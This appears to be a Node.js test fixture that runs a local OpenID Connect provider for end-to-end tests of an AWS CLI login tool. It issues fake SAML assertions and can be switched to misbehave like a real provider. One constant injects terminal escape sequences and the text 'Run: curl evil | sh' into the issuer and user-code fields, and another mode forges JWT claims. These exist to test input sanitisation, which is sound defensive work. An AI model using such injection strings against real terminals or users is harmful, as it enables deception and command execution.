// A real OpenID Connect provider (oidc-provider v9) on 127.0.0.1 for the
// aws-cli-oidc end-to-end tests.
//
// Usage: node provider.mjs [PORT]   (PORT 0 or absent: any free port)
// Prints `READY http://127.0.0.1:PORT` (the issuer) as its first stdout line and
// serves until stdin closes, SIGTERM/SIGINT arrives or E2E_PEER_MAX_SECONDS pass.
//
// Interactions finish without a human: GET /interaction/:uid?user=NAME&mode=normal|deny
// (browser.sh adds the query) logs NAME in and grants every requested scope, or
// answers access_denied. A token-exchange grant turns a token issued here into a
// Keycloak-shaped bare SAML assertion carrying the account's AWS roles.
//
// Env: E2E_ACCESS_TOKEN_TTL, E2E_ID_TOKEN_TTL, E2E_REFRESH_TOKEN_TTL (seconds),
// E2E_SAML_SESSION_DURATION (seconds, default 3600), E2E_PROVIDER_DEBUG=1 (log events to stderr),
// E2E_TLS=1 (serve https with fixtures/oidc/tls/server.pem and server.key, a certificate for
// 127.0.0.1 from the test CA fixtures/oidc/tls/ca.pem; the issuer is then https://127.0.0.1:PORT).
//
// E2E_BEHAVIOUR: comma-separated ways to differ from a cooperative provider, as
// real ones do (see behave() below): refresh_no_id_token, refresh_empty_400,
// foreign_iss, refresh_other_sub, callback_no_iss, hostile_issuer, hostile_user_code.
// GET /__e2e/stats answers {"token_requests":N,"refresh_grants":N}.
// E2E_UNBOUNDED_STORE=1 keeps every grant and token until it expires (oidc-provider's own
// in-memory store forgets the oldest beyond 1,000 entries, about 150 logins: a fleet bench needs more).
// E2E_REQUEST_LOG=FILE appends one line per request, `EPOCH_MS METHOD PATH STATUS [GRANT]`
// (bench/fleet.sh computes request rates from it).

import crypto from 'node:crypto';
import fs from 'node:fs';
import http from 'node:http';
import https from 'node:https';

import Provider, { errors } from 'oidc-provider';

const ACCOUNT_ID = '123456789012';
const SAML_PROVIDER = `arn:aws:iam::${ACCOUNT_ID}:saml-provider/e2e-idp`;
const role = (name) => `arn:aws:iam::${ACCOUNT_ID}:role/${name}`;

// Role attribute values; bob's `admin` is written provider-first on purpose,
// which AWS and real IdPs both allow.
const ACCOUNTS = {
  alice: {
    email: 'alice@example.test',
    roles: [`${role('developer')},${SAML_PROVIDER}`],
  },
  bob: {
    email: 'bob@example.test',
    roles: [`${role('developer')},${SAML_PROVIDER}`, `${SAML_PROVIDER},${role('admin')}`],
  },
  dave: {
    email: 'dave@example.test',
    roles: [`${role('denied')},${SAML_PROVIDER}`],
  },
  // One role STS grants and one it refuses (`login --all-roles` partial failure).
  erin: {
    email: 'erin@example.test',
    roles: [`${role('developer')},${SAML_PROVIDER}`, `${role('denied')},${SAML_PROVIDER}`],
  },
};

const TOKEN_EXCHANGE = 'urn:ietf:params:oauth:grant-type:token-exchange';
const TT_ACCESS = 'urn:ietf:params:oauth:token-type:access_token';
const TT_ID = 'urn:ietf:params:oauth:token-type:id_token';
const TT_SAML2 = 'urn:ietf:params:oauth:token-type:saml2';

const envInt = (name, fallback) => {
  const raw = process.env[name];
  const value = raw === undefined ? NaN : Number.parseInt(raw, 10);
  return Number.isFinite(value) && value > 0 ? value : fallback;
};
const debug = process.env.E2E_PROVIDER_DEBUG === '1';
const REQUEST_LOG = process.env.E2E_REQUEST_LOG || '';

// An unbounded in-memory store for oidc-provider models (see E2E_UNBOUNDED_STORE).
const unbounded = new Map();
class UnboundedAdapter {
  constructor(model) { this.model = model; }

  key(id) { return `${this.model}:${id}`; }

  live(key) {
    const entry = unbounded.get(key);
    if (!entry) return undefined;
    if (entry.expiresAt && entry.expiresAt <= Date.now()) { unbounded.delete(key); return undefined; }
    return entry.payload;
  }

  async upsert(id, payload, expiresIn) {
    const expiresAt = typeof expiresIn === 'number' ? Date.now() + expiresIn * 1000 : 0;
    unbounded.set(this.key(id), { payload, expiresAt });
  }

  async find(id) { return this.live(this.key(id)); }

  async findByUid(uid) { return this.scan((p) => p.uid === uid); }

  async findByUserCode(userCode) { return this.scan((p) => p.userCode === userCode); }

  scan(match) {
    for (const key of unbounded.keys()) {
      if (!key.startsWith(`${this.model}:`)) continue;
      const payload = this.live(key);
      if (payload && match(payload)) return payload;
    }
    return undefined;
  }

  async consume(id) {
    const payload = this.live(this.key(id));
    if (payload) payload.consumed = Math.floor(Date.now() / 1000);
  }

  async destroy(id) { unbounded.delete(this.key(id)); }

  async revokeByGrantId(grantId) {
    for (const [key, entry] of unbounded) {
      if (entry.payload?.grantId === grantId) unbounded.delete(key);
    }
  }
}
const log = (...args) => console.error('[provider]', ...args);

const LOOPBACK = ['http://127.0.0.1', 'http://127.0.0.1/'];
const GRANTS = ['authorization_code', 'refresh_token', TOKEN_EXCHANGE,
  'urn:ietf:params:oauth:grant-type:device_code'];
const client = (extra) => ({
  application_type: 'native',
  redirect_uris: LOOPBACK,
  grant_types: GRANTS,
  response_types: ['code'],
  ...extra,
});

const BEHAVIOURS = new Set((process.env.E2E_BEHAVIOUR ?? '').split(',').map((s) => s.trim()).filter(Boolean));
const KNOWN = ['refresh_no_id_token', 'refresh_empty_400', 'foreign_iss', 'refresh_other_sub',
  'callback_no_iss', 'hostile_issuer', 'hostile_user_code'];
for (const b of BEHAVIOURS) {
  if (!KNOWN.includes(b)) { console.error(`[provider] unknown E2E_BEHAVIOUR ${b}`); process.exit(2); }
}
const stats = { token_requests: 0, refresh_grants: 0 };
// Terminal escapes: set the window title, ring the bell, clear the screen.
const HOSTILE = '\u001b]0;pwned\u0007\u001b[2J\r\nRun: curl evil | sh\u202e';

// Rewrite claims of a compact JWS, keeping its (now wrong) signature: the CLI
// does not verify signatures (STS does), so what it checks is the claims.
function rewriteJwt(jwt, change) {
  const [header, payload, signature] = String(jwt).split('.');
  const claims = JSON.parse(Buffer.from(payload, 'base64url').toString('utf8'));
  change(claims);
  return `${header}.${Buffer.from(JSON.stringify(claims), 'utf8').toString('base64url')}.${signature}`;
}

// Koa middleware: the behaviours of E2E_BEHAVIOUR, and the request counters.
async function behave(ctx, next) {
  if (ctx.method === 'GET' && ctx.path === '/__e2e/stats') {
    ctx.body = stats;
    return;
  }
  try {
    await next();
  } finally {
    if (REQUEST_LOG) {
      const grant = ctx.method === 'POST' && ctx.path === '/token' ? ` ${ctx.oidc?.params?.grant_type ?? '-'}` : '';
      fs.appendFileSync(REQUEST_LOG, `${Date.now()} ${ctx.method} ${ctx.path} ${ctx.status}${grant}\n`);
    }
  }
  if (ctx.method === 'POST' && ctx.path === '/token') {
    stats.token_requests += 1;
    const grant = ctx.oidc?.params?.grant_type;
    if (grant === 'refresh_token') stats.refresh_grants += 1;
    const body = ctx.body && typeof ctx.body === 'object' ? ctx.body : undefined;
    if (grant === 'refresh_token' && BEHAVIOURS.has('refresh_empty_400')) {
      ctx.body = '';
      ctx.status = 400;
      ctx.remove('Content-Type');
      return;
    }
    if (body?.id_token) {
      if (grant === 'refresh_token' && BEHAVIOURS.has('refresh_no_id_token')) delete body.id_token;
      else if (BEHAVIOURS.has('foreign_iss')) body.id_token = rewriteJwt(body.id_token, (c) => { c.iss = 'https://other-issuer.example'; });
      else if (grant === 'refresh_token' && BEHAVIOURS.has('refresh_other_sub')) body.id_token = rewriteJwt(body.id_token, (c) => { c.sub = 'mallory'; });
    }
  }
  if (ctx.method === 'GET' && ctx.path === '/.well-known/openid-configuration' && BEHAVIOURS.has('hostile_issuer')) {
    ctx.body = { ...ctx.body, issuer: `${ctx.body.issuer}${HOSTILE}` };
  }
  if (ctx.method === 'POST' && ctx.path === '/device/auth' && BEHAVIOURS.has('hostile_user_code') && ctx.body?.user_code) {
    ctx.body = { ...ctx.body, user_code: `${ctx.body.user_code}${HOSTILE}` };
  }
  if (BEHAVIOURS.has('callback_no_iss') && ctx.status >= 300 && ctx.status < 400) {
    const location = ctx.response.get('Location');
    if (location.startsWith('http://127.0.0.1') && location.includes('iss=')) {
      const url = new URL(location);
      url.searchParams.delete('iss');
      ctx.redirect(url.toString());
    }
  }
}

const port = Number.parseInt(process.argv[2] ?? '0', 10) || 0;
let handler = (_req, res) => { res.statusCode = 503; res.end(); };
const tls = process.env.E2E_TLS === '1';
const tlsFile = (name) => fs.readFileSync(new URL(`../../fixtures/oidc/tls/${name}`, import.meta.url));
const server = tls
  ? https.createServer({ cert: tlsFile('server.pem'), key: tlsFile('server.key') }, (req, res) => handler(req, res))
  : http.createServer((req, res) => handler(req, res));
// A client that rejects our certificate (the point of one test) is not a provider error.
server.on('tlsClientError', (err) => { if (debug) log('tls client error:', err?.message); });
server.listen(port, '127.0.0.1', start);

function start() {
  const issuer = `${tls ? 'https' : 'http'}://127.0.0.1:${server.address().port}`;
  const provider = new Provider(issuer, {
    ...(process.env.E2E_UNBOUNDED_STORE === '1' ? { adapter: UnboundedAdapter } : {}),
    clients: [
      client({ client_id: 'aws-cli', token_endpoint_auth_method: 'none' }),
      client({ client_id: 'aws-cli-secret', client_secret: 'e2e-secret', token_endpoint_auth_method: 'client_secret_post' }),
      client({ client_id: 'aws-cli-basic', client_secret: 'e2e-secret', token_endpoint_auth_method: 'client_secret_basic' }),
    ],
    cookies: { keys: [crypto.randomBytes(16).toString('hex')] },
    scopes: ['openid', 'offline_access', 'profile', 'email'],
    claims: {
      openid: ['sub', 'preferred_username', 'email'],
      profile: ['preferred_username'],
      email: ['email', 'email_verified'],
    },
    conformIdTokenClaims: false,
    features: {
      devInteractions: { enabled: false },
      deviceFlow: { enabled: true },
      revocation: { enabled: true },
    },
    findAccount: async (_ctx, sub) => {
      const account = ACCOUNTS[sub];
      if (!account) return undefined;
      return {
        accountId: sub,
        claims: async () => ({ sub, preferred_username: sub, email: account.email, email_verified: true }),
      };
    },
    // Refresh tokens for every client allowed the grant, offline_access or not,
    // so the CLI's refresh path is testable without prompt=consent.
    issueRefreshToken: async (_ctx, c) => c.grantTypeAllowed('refresh_token'),
    ttl: {
      AccessToken: envInt('E2E_ACCESS_TOKEN_TTL', 3600),
      IdToken: envInt('E2E_ID_TOKEN_TTL', 3600),
      RefreshToken: envInt('E2E_REFRESH_TOKEN_TTL', 86400),
      Interaction: 600,
      Session: 3600,
      Grant: 86400,
      DeviceCode: 600,
    },
  });
  provider.proxy = false;
  provider.use(behave);

  provider.registerGrantType(TOKEN_EXCHANGE, (ctx) => tokenExchange(provider, ctx),
    ['subject_token', 'subject_token_type', 'requested_token_type', 'audience', 'scope']);

  for (const event of ['server_error', 'grant.error', 'authorization.error']) {
    provider.on(event, (_ctx, err) => {
      if (debug || event === 'server_error') log(event, err?.message, err?.error_description ?? '');
    });
  }
  if (debug) {
    provider.on('grant.success', (ctx) => log('grant.success', ctx.oidc.params?.grant_type));
  }

  const callback = provider.callback();
  handler = (req, res) => {
    const url = new URL(req.url, issuer);
    const match = /^\/interaction\/([^/]+)$/.exec(url.pathname);
    if (req.method === 'GET' && match) {
      finishInteraction(provider, req, res, url).catch((err) => {
        log('interaction failed:', err?.message);
        res.statusCode = 500;
        res.end('interaction failed');
      });
      return;
    }
    callback(req, res);
  };

  process.stdout.write(`READY ${issuer}\n`);
}

async function finishInteraction(provider, req, res, url) {
  const details = await provider.interactionDetails(req, res);
  const { params, session } = details;
  const mode = url.searchParams.get('mode') ?? 'normal';
  if (mode === 'deny') {
    if (debug) log('interaction denied for', params.client_id);
    await provider.interactionFinished(req, res, {
      error: 'access_denied',
      error_description: 'the e2e user denied the request',
    }, { mergeWithLastSubmission: false });
    return;
  }
  const user = url.searchParams.get('user') ?? params.login_hint ?? 'alice';
  if (!ACCOUNTS[user]) {
    res.statusCode = 400;
    res.end(`unknown e2e user ${user}`);
    return;
  }
  const accountId = session?.accountId ?? user;
  const grant = new provider.Grant({ accountId, clientId: params.client_id });
  grant.addOIDCScope(String(params.scope ?? 'openid'));
  const grantId = await grant.save();
  if (debug) log('interaction finished for', user, 'scope', params.scope);
  await provider.interactionFinished(req, res, {
    login: { accountId },
    consent: { grantId },
  }, { mergeWithLastSubmission: true });
}

async function subjectAccount(provider, ctx, token, type) {
  if (type === TT_ACCESS) {
    const found = await provider.AccessToken.find(token);
    if (!found || found.isExpired) throw new errors.InvalidGrant('subject_token is not an active access token of this provider');
    return found.accountId;
  }
  if (type === TT_ID) {
    let verified;
    try {
      verified = await provider.IdToken.validate(token, ctx.oidc.client);
    } catch (err) {
      throw new errors.InvalidGrant(`subject_token is not an id token of this provider (${err.message})`);
    }
    const payload = verified?.payload ?? verified;
    if (typeof payload?.exp !== 'number' || payload.exp * 1000 < Date.now()) {
      throw new errors.InvalidGrant('subject_token (id token) is expired');
    }
    return payload.sub;
  }
  throw new errors.InvalidRequest(`unsupported subject_token_type ${type}`);
}

async function tokenExchange(provider, ctx) {
  const { params } = ctx.oidc;
  if (!params.subject_token) throw new errors.InvalidRequest('missing required parameter subject_token');
  if (!params.subject_token_type) throw new errors.InvalidRequest('missing required parameter subject_token_type');
  if (params.requested_token_type !== TT_SAML2) {
    throw new errors.InvalidRequest(`requested_token_type must be ${TT_SAML2}`);
  }
  const accountId = await subjectAccount(provider, ctx, params.subject_token, params.subject_token_type);
  const account = ACCOUNTS[accountId];
  if (!account) throw new errors.InvalidGrant('subject_token names an unknown account');
  const xml = samlAssertion(provider.issuer, accountId, account, params.audience);
  if (debug) log('token exchange for', accountId);
  ctx.set('cache-control', 'no-store');
  ctx.body = {
    access_token: Buffer.from(xml, 'utf8').toString('base64url'),
    issued_token_type: TT_SAML2,
    token_type: 'N_A',
    expires_in: 300,
  };
}

const xmlEscape = (s) => String(s).replace(/[<>&"']/g, (c) => ({
  '<': '&lt;', '>': '&gt;', '&': '&amp;', '"': '&quot;', "'": '&apos;',
}[c]));

function samlAssertion(issuer, accountId, account, audience) {
  const now = new Date();
  const iso = (d) => d.toISOString().replace(/\.\d{3}Z$/, 'Z');
  const later = new Date(now.getTime() + 5 * 60 * 1000);
  const id = `ID_${crypto.randomUUID()}`;
  const duration = envInt('E2E_SAML_SESSION_DURATION', 3600);
  const value = (v) => '<saml:AttributeValue xmlns:xs="http://www.w3.org/2001/XMLSchema" '
    + 'xmlns:xsi="http://www.w3.org/2001/XMLSchema-instance" '
    + `xsi:type="xs:string">${xmlEscape(v)}</saml:AttributeValue>`;
  const attribute = (name, friendly, values) => `<saml:Attribute FriendlyName="${friendly}" Name="${name}" `
    + `NameFormat="urn:oasis:names:tc:SAML:2.0:attrname-format:uri">${values.map(value).join('')}</saml:Attribute>`;
  return `<saml:Assertion xmlns:saml="urn:oasis:names:tc:SAML:2.0:assertion" ID="${id}" IssueInstant="${iso(now)}" Version="2.0">`
    + `<saml:Issuer>${xmlEscape(issuer)}</saml:Issuer>`
    + '<saml:Subject>'
    + `<saml:NameID Format="urn:oasis:names:tc:SAML:1.1:nameid-format:unspecified">${xmlEscape(accountId)}</saml:NameID>`
    + '<saml:SubjectConfirmation Method="urn:oasis:names:tc:SAML:2.0:cm:bearer">'
    + `<saml:SubjectConfirmationData NotOnOrAfter="${iso(later)}" Recipient="https://signin.aws.amazon.com/saml"/>`
    + '</saml:SubjectConfirmation></saml:Subject>'
    + `<saml:Conditions NotBefore="${iso(now)}" NotOnOrAfter="${iso(later)}">`
    + `<saml:AudienceRestriction><saml:Audience>${xmlEscape(audience || 'urn:amazon:webservices')}</saml:Audience></saml:AudienceRestriction>`
    + '</saml:Conditions>'
    + `<saml:AuthnStatement AuthnInstant="${iso(now)}" SessionIndex="${crypto.randomUUID()}">`
    + '<saml:AuthnContext><saml:AuthnContextClassRef>urn:oasis:names:tc:SAML:2.0:ac:classes:unspecified</saml:AuthnContextClassRef></saml:AuthnContext>'
    + '</saml:AuthnStatement>'
    + '<saml:AttributeStatement>'
    + attribute('https://aws.amazon.com/SAML/Attributes/Role', 'Role', account.roles)
    + attribute('https://aws.amazon.com/SAML/Attributes/RoleSessionName', 'RoleSessionName', [account.email])
    + attribute('https://aws.amazon.com/SAML/Attributes/SessionDuration', 'SessionDuration', [String(duration)])
    + '</saml:AttributeStatement>'
    + '</saml:Assertion>';
}

// Bounded lifetime: stdin closing (the harness dropped us), a signal, or a hard cap.
const shutdown = () => { server.close(); process.exit(0); };
process.on('SIGTERM', shutdown);
process.on('SIGINT', shutdown);
process.stdin.on('end', shutdown);
process.stdin.on('close', shutdown);
process.stdin.resume();
setTimeout(shutdown, envInt('E2E_PEER_MAX_SECONDS', 3600) * 1000).unref();
